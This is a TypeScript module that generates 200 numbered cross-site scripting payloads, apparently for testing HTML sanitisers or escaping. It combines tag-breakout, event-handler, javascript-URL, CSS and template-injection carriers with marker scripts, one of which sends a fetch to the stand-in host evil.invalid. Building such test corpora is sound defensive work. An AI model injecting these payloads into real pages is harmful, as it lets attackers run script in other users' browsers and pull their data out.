/**
 * Texts that try to run something in a page, to be put wherever an attacker can put text: they set `pwned`, open a dialog,
 * or ask for something over the network.
 *
 * @module
 */

/** Scripts that leave a trace; `#` is the number of the payload. */
const TRACES = ["globalThis.pwned=#", "alert(#)", "fetch('https://evil.invalid/#')", "document.title='pwned #'"];

/** What carries a script, `@`. */
const CARRIERS = [
  "<script>@</script>",
  "</script><script>@</script>",
  "</SCRIPT\t><sCrIpT>@</sCrIpT>",
  "<!--<script>@</script>",
  '"><script>@</script>',
  "'><script>@</script>",
  "`><script>@</script>",
  "</td></table><script>@</script>",
  "]]><script>@</script>",
  "--><script>@</script>",
  "</title><script>@</script>",
  "</style><script>@</script>",
  "</textarea><script>@</script>",
  "<img src=x onerror=@>",
  '<img src=x onerror="@">',
  "<svg onload=@>",
  "<svg><script>@</script></svg>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<body onload=@>",
  "<details open ontoggle=@>",
  "<input autofocus onfocus=@>",
  "<video><source onerror=@></video>",
  "<iframe srcdoc='<script>parent.@</script>'></iframe>",
  "<iframe src=javascript:@></iframe>",
  "<object data=javascript:@></object>",
  "<math><mtext></p><style><img src=x onerror=@></style>",
  '" onmouseover="@" autofocus onfocus="@" x="',
  "' onfocus='@' autofocus x='",
  "x onfocus=@ tabindex=1 autofocus",
  '<a href="javascript:@" autofocus onfocus=@>x</a>',
  "javascript:@",
  "JaVaScRiPt:@//",
  "data:text/html,<script>@</script>",
  "<meta http-equiv=refresh content='0;url=javascript:@'>",
  "<base href=//evil.invalid/><script src=x.js></script>@",
  "<link rel=stylesheet href=//evil.invalid/x.css>@",
  "<style>*{background:url('https://evil.invalid/x')}</style>@",
  "</style><style>@import 'https://evil.invalid/x.css';</style>",
  "x;background:url(javascript:@)",
  "expression(@)",
  "<form action=javascript:@><button autofocus>x</button></form>",
  "{{constructor.constructor('@')()}}",
  "${@}",
  "<%= @ %>",
  "#{@}",
  "\u2028@\u2029",
  '\\"}];@;//',
  '</script\n><script type="module">@</script>',
  "\u202e<script>@</script>\u0000<script>@</script>",
  "<template shadowrootmode=open><script>@</script></template>",
];

/** 200 of them, each with its number. */
export const PAGE_PAYLOADS: readonly string[] = CARRIERS.flatMap((carrier, c) =>
  TRACES.map((trace, t) => carrier.replaceAll("@", trace.replaceAll("#", String(c * TRACES.length + t))))
);
